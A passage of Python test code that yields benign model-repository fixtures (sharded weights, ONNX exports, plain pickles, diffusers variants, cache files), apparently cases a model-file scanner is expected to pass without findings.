        "inference.py": b"import torch\nfrom transformers import AutoModel\n\n"
                        b"model = AutoModel.from_pretrained('.')\nprint(model(torch.ones(1)))\n"}), [],
           "a script that shows how it is used")
    yield ("names in letters of others", with_files(model(), {
        "\u30e2\u30c7\u30eb.txt": "\u3042\n".encode(), "donn\u00e9es.json": b"{}\n"}), [],
           "Japanese and French")
    yield ("exports of ONNX", with_files(model(), {
        "onnx/config.json": CONFIG, "onnx/tokenizer.json": TOKENIZER}), [], "a folder for exports")
    yield ("plain pickles of words", with_files(model(), {"vocab.pkl": PLAIN}), [],
           "a vocabulary that is a pickle")
    yield ("shards and a whole, of one name each", with_files(sharded(1), {}), [], "one shard of one")
    yield ("pipeline with variants", diffusers(**{
        "unet/diffusion_pytorch_model.fp16.safetensors": safetensors({"a": 2}),
        "unet/diffusion_pytorch_model.bin": torch_tensors({"a": 4}),
        "v1-5.safetensors": safetensors({"m.a": 4}), "v1-5.ckpt": torch_tensors({"m.a": 4})}), [],
           "as Stable Diffusion comes")
    yield ("pickle of parts of it", with_files(model(), {"scaler.pt": torch_zip(),
                                                         "label_encoder.json": b"[]\n"}), [],
           "what trainings leave")
    yield ("lock files", with_files(model(), {
        ".cache/huggingface/.gitignore": b"*", ".cache/huggingface/CACHEDIR.TAG":
        b"Signature: 8a477f597d28d172789f06886806bc55\n"}), [], "what downloads leave")
    yield ("size twelve", sharded(12), [], "twelve shards")
